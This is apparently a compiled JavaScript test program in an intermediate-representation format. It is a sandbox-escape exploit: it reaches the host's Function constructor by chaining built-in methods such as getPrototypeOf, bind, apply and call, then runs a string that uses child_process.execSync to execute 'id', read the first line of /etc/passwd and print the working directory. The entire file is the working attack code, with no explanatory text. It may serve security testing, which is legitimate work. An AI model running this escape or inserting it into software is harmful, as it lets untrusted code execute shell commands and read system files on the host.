# The function constructor of the host by way of properties of built-in functions, to run a text with the rights of the host.
var $args <[16] dynany>
func &main () i32 {
  var %v0 dynany
  var %v1 dynany
  var %v2 dynany
  var %v3 dynany
  var %v4 dynany
  var %v5 dynany
  var %v6 dynany
  var %v7 dynany
  var %v8 dynany
  var %v9 dynany
  var %v10 dynany
  var %v11 dynany
  var %v12 dynany
  var %v13 dynany
  var %v14 dynany
  var %v15 dynany
  var %v16 dynany
  var %v17 dynany
  var %v18 dynany
  var %v19 dynany
  var %v20 dynany
  var %v21 dynany
  var %v22 dynany
  var %v23 dynany
  var %v24 dynany
  var %v25 dynany
  var %v26 dynany
  var %v27 dynany
  var %v28 dynany
  var %v29 dynany
  var %v30 dynany
  var %v31 dynany
  var %v32 dynany
  var %v33 dynany
  var %v34 dynany
  var %v35 dynany
  var %v36 dynany
  var %v37 dynany
  var %v38 dynany
  var %v39 dynany
  var %v40 dynany
  var %v41 dynany
  var %v42 dynany
  var %v43 dynany
  var %v44 dynany
  var %v45 dynany
  var %v46 dynany
  var %v47 dynany
  var %v48 dynany
  var %v49 dynany
  var %v50 dynany
  var %v51 dynany
  var %v52 dynany
  var %v53 dynany
  var %v54 dynany
  var %v55 dynany
  var %v56 dynany
  var %v57 dynany
  var %v58 dynany
  var %v59 dynany
  var %v60 dynany
  var %v61 dynany
  var %v62 dynany
  var %v63 dynany
  var %v64 dynany
  var %v65 dynany
  var %v66 dynany
  var %v67 dynany
  var %v68 dynany
  var %v69 dynany
  var %v70 dynany
  var %v71 dynany
  var %v72 dynany
  var %v73 dynany
  var %v74 dynany
  var %v75 dynany
  var %v76 dynany
  var %v77 dynany
  var %v78 dynany
  var %v79 dynany
  var %v80 dynany
  var %v81 dynany
  var %v82 dynany
  var %v83 dynany
  var %v84 dynany
  var %v85 dynany
  var %v86 dynany
  var %v87 dynany
  var %v88 dynany
  var %v89 dynany
  var %v90 dynany
  var %v91 dynany
  var %v92 dynany
  var %v93 dynany
  var %v94 dynany
  var %v95 dynany
  var %v96 dynany
  var %v97 dynany
  var %v98 dynany
  var %v99 dynany
  var %v100 dynany
  dassign %v0 (intrinsicop simpleobj JS_GET_BIOBJECT (constval u32 1))
  dassign %v1 (intrinsicop simpleobj JS_GET_BIOBJECT (constval u32 4))
  dassign %v2 (conststr dynstr "apply")
  dassign %v3 (intrinsicop dynany JSOP_GETPROP (dread dynany %v1, dread dynany %v2))
  dassign %v4 (conststr dynstr "call")
  dassign %v5 (intrinsicop dynany JSOP_GETPROP (dread dynany %v1, dread dynany %v4))
  dassign %v6 (conststr dynstr "getPrototypeOf")
  dassign %v7 (intrinsicop dynany JSOP_GETPROP (dread dynany %v0, dread dynany %v6))
  dassign %v8 (conststr dynstr "values")
  dassign %v9 (intrinsicop dynany JSOP_GETPROP (dread dynany %v0, dread dynany %v8))
  dassign %v10 (conststr dynstr "defineProperty")
  dassign %v11 (intrinsicop dynany JSOP_GETPROP (dread dynany %v0, dread dynany %v10))
  dassign %v12 (intrinsicop simpleobj JS_NEW_OBJECT_0 ())
  dassign %v13 (constval dyni32 1)
  dassign %v14 (conststr dynstr "a")
  intrinsiccall JSOP_SETPROP (dread dynany %v12, dread dynany %v14, dread dynany %v13)
  dassign %v15 (conststr dynstr "entries")
  dassign %v16 (intrinsicop dynany JSOP_GETPROP (dread dynany %v0, dread dynany %v15))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v12)
  dassign %v17 (intrinsicop dynany JSOP_CALL (dread dynany %v16, dread dynany %v0, addrof ptr $args, constval u32 1))
  dassign %v18 (conststr dynstr "map")
  dassign %v19 (intrinsicop dynany JSOP_GETPROP (dread dynany %v17, dread dynany %v18))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v7)
  dassign %v20 (intrinsicop dynany JSOP_CALL (dread dynany %v19, dread dynany %v17, addrof ptr $args, constval u32 1))
  dassign %v21 (constval dyni32 0)
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v21)
  dassign %v22 (intrinsicop simpleobj JS_NEW_ARR_ELEMS (addrof ptr $args, constval u32 1))
  dassign %v23 (intrinsicop simpleobj JS_NEW_OBJECT_0 ())
  dassign %v24 (constval dyni32 1)
  dassign %v25 (conststr dynstr "enumerable")
  intrinsiccall JSOP_SETPROP (dread dynany %v23, dread dynany %v25, dread dynany %v24)
  dassign %v26 (constval dyni32 0)
  dassign %v27 (constval dyni32 1)
  dassign %v28 (conststr dynstr "slice")
  dassign %v29 (intrinsicop dynany JSOP_GETPROP (dread dynany %v20, dread dynany %v28))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v26)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v27)
  dassign %v30 (intrinsicop dynany JSOP_CALL (dread dynany %v29, dread dynany %v20, addrof ptr $args, constval u32 2))
  dassign %v31 (conststr dynstr "constructor")
  dassign %v32 (conststr dynstr "push")
  dassign %v33 (intrinsicop dynany JSOP_GETPROP (dread dynany %v30, dread dynany %v32))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v31)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v23)
  dassign %v34 (intrinsicop dynany JSOP_CALL (dread dynany %v33, dread dynany %v30, addrof ptr $args, constval u32 2))
  dassign %v35 (constval dynundef 0)
  dassign %v36 (conststr dynstr "bind")
  dassign %v37 (intrinsicop dynany JSOP_GETPROP (dread dynany %v3, dread dynany %v36))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v11)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v35)
  iassignoff dynany 16 (addrof ptr $args, dread dynany %v30)
  dassign %v38 (intrinsicop dynany JSOP_CALL (dread dynany %v37, dread dynany %v3, addrof ptr $args, constval u32 3))
  dassign %v39 (conststr dynstr "map")
  dassign %v40 (intrinsicop dynany JSOP_GETPROP (dread dynany %v22, dread dynany %v39))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v38)
  dassign %v41 (intrinsicop dynany JSOP_CALL (dread dynany %v40, dread dynany %v22, addrof ptr $args, constval u32 1))
  dassign %v42 (conststr dynstr "map")
  dassign %v43 (intrinsicop dynany JSOP_GETPROP (dread dynany %v20, dread dynany %v42))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v9)
  dassign %v44 (intrinsicop dynany JSOP_CALL (dread dynany %v43, dread dynany %v20, addrof ptr $args, constval u32 1))
  dassign %v45 (conststr dynstr "flat")
  dassign %v46 (intrinsicop dynany JSOP_GETPROP (dread dynany %v44, dread dynany %v45))
  dassign %v47 (intrinsicop dynany JSOP_CALL (dread dynany %v46, dread dynany %v44, addrof ptr $args, constval u32 0))
  dassign %v48 (conststr dynstr "map")
  dassign %v49 (intrinsicop dynany JSOP_GETPROP (dread dynany %v47, dread dynany %v48))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v7)
  dassign %v50 (intrinsicop dynany JSOP_CALL (dread dynany %v49, dread dynany %v47, addrof ptr $args, constval u32 1))
  dassign %v51 (constval dyni32 0)
  dassign %v52 (constval dyni32 1)
  dassign %v53 (conststr dynstr "slice")
  dassign %v54 (intrinsicop dynany JSOP_GETPROP (dread dynany %v50, dread dynany %v53))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v51)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v52)
  dassign %v55 (intrinsicop dynany JSOP_CALL (dread dynany %v54, dread dynany %v50, addrof ptr $args, constval u32 2))
  dassign %v56 (conststr dynstr "constructor")
  dassign %v57 (conststr dynstr "push")
  dassign %v58 (intrinsicop dynany JSOP_GETPROP (dread dynany %v55, dread dynany %v57))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v56)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v23)
  dassign %v59 (intrinsicop dynany JSOP_CALL (dread dynany %v58, dread dynany %v55, addrof ptr $args, constval u32 2))
  dassign %v60 (constval dynundef 0)
  dassign %v61 (conststr dynstr "bind")
  dassign %v62 (intrinsicop dynany JSOP_GETPROP (dread dynany %v3, dread dynany %v61))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v11)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v60)
  iassignoff dynany 16 (addrof ptr $args, dread dynany %v55)
  dassign %v63 (intrinsicop dynany JSOP_CALL (dread dynany %v62, dread dynany %v3, addrof ptr $args, constval u32 3))
  dassign %v64 (conststr dynstr "map")
  dassign %v65 (intrinsicop dynany JSOP_GETPROP (dread dynany %v22, dread dynany %v64))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v63)
  dassign %v66 (intrinsicop dynany JSOP_CALL (dread dynany %v65, dread dynany %v22, addrof ptr $args, constval u32 1))
  dassign %v67 (conststr dynstr "map")
  dassign %v68 (intrinsicop dynany JSOP_GETPROP (dread dynany %v50, dread dynany %v67))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v9)
  dassign %v69 (intrinsicop dynany JSOP_CALL (dread dynany %v68, dread dynany %v50, addrof ptr $args, constval u32 1))
  dassign %v70 (conststr dynstr "flat")
  dassign %v71 (intrinsicop dynany JSOP_GETPROP (dread dynany %v69, dread dynany %v70))
  dassign %v72 (intrinsicop dynany JSOP_CALL (dread dynany %v71, dread dynany %v69, addrof ptr $args, constval u32 0))
  dassign %v73 (constval dynundef 0)
  dassign %v74 (conststr dynstr "return process.mainModule.require(\"child_process\").execSync(\"id; head -1 /etc/passwd; pwd\").toString()")
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v73)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v74)
  dassign %v75 (intrinsicop simpleobj JS_NEW_ARR_ELEMS (addrof ptr $args, constval u32 2))
  dassign %v76 (constval dyni32 0)
  dassign %v77 (constval dyni32 1)
  dassign %v78 (conststr dynstr "slice")
  dassign %v79 (intrinsicop dynany JSOP_GETPROP (dread dynany %v72, dread dynany %v78))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v76)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v77)
  dassign %v80 (intrinsicop dynany JSOP_CALL (dread dynany %v79, dread dynany %v72, addrof ptr $args, constval u32 2))
  dassign %v81 (conststr dynstr "push")
  dassign %v82 (intrinsicop dynany JSOP_GETPROP (dread dynany %v80, dread dynany %v81))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v75)
  dassign %v83 (intrinsicop dynany JSOP_CALL (dread dynany %v82, dread dynany %v80, addrof ptr $args, constval u32 1))
  dassign %v84 (conststr dynstr "bind")
  dassign %v85 (intrinsicop dynany JSOP_GETPROP (dread dynany %v3, dread dynany %v84))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v3)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v5)
  iassignoff dynany 16 (addrof ptr $args, dread dynany %v80)
  dassign %v86 (intrinsicop dynany JSOP_CALL (dread dynany %v85, dread dynany %v3, addrof ptr $args, constval u32 3))
  dassign %v87 (conststr dynstr "map")
  dassign %v88 (intrinsicop dynany JSOP_GETPROP (dread dynany %v22, dread dynany %v87))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v86)
  dassign %v89 (intrinsicop dynany JSOP_CALL (dread dynany %v88, dread dynany %v22, addrof ptr $args, constval u32 1))
  dassign %v90 (constval dynundef 0)
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v90)
  dassign %v91 (intrinsicop simpleobj JS_NEW_ARR_ELEMS (addrof ptr $args, constval u32 1))
  dassign %v92 (constval dyni32 0)
  dassign %v93 (constval dyni32 1)
  dassign %v94 (conststr dynstr "slice")
  dassign %v95 (intrinsicop dynany JSOP_GETPROP (dread dynany %v89, dread dynany %v94))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v92)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v93)
  dassign %v96 (intrinsicop dynany JSOP_CALL (dread dynany %v95, dread dynany %v89, addrof ptr $args, constval u32 2))
  dassign %v97 (conststr dynstr "push")
  dassign %v98 (intrinsicop dynany JSOP_GETPROP (dread dynany %v96, dread dynany %v97))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v91)
  dassign %v99 (intrinsicop dynany JSOP_CALL (dread dynany %v98, dread dynany %v96, addrof ptr $args, constval u32 1))
  iassignoff dynany 0 (addrof ptr $args, dread dynany %v5)
  iassignoff dynany 8 (addrof ptr $args, dread dynany %v96)
  dassign %v100 (intrinsicop dynany JSOP_CALL (dread dynany %v3, dread dynany %v3, addrof ptr $args, constval u32 2))
  intrinsiccall JS_PRINT (dread dynany %v100)
  return (constval i32 0)
}
